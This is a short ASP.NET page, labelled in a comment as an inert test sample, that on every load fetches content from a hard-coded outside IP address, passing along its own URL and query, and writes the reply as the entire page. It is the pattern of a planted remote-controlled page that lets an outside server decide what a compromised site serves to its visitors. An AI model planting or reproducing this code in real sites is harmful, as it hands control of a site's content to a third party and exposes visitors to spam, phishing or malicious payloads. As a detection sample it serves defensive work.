<%@ Page Language="C#" %>
<%@ Import Namespace="System.Net" %>
<script runat="server">
// inert test sample: a planted page that asks a remote server what to show for this very address
// and writes the reply as the whole page
protected void Page_Load(object sender, EventArgs e)
{
    string self = "http://" + Request.ServerVariables["HTTP_HOST"] + Request.ServerVariables["SCRIPT_NAME"];
    string remote = "http://198.51.100.23/tpl/get.php?host=" + self + "&q=" + Request.ServerVariables["QUERY_STRING"];
    WebClient wc = new WebClient();
    wc.Encoding = System.Text.Encoding.UTF8;
    Response.Write(wc.DownloadString(remote));
}
</script>
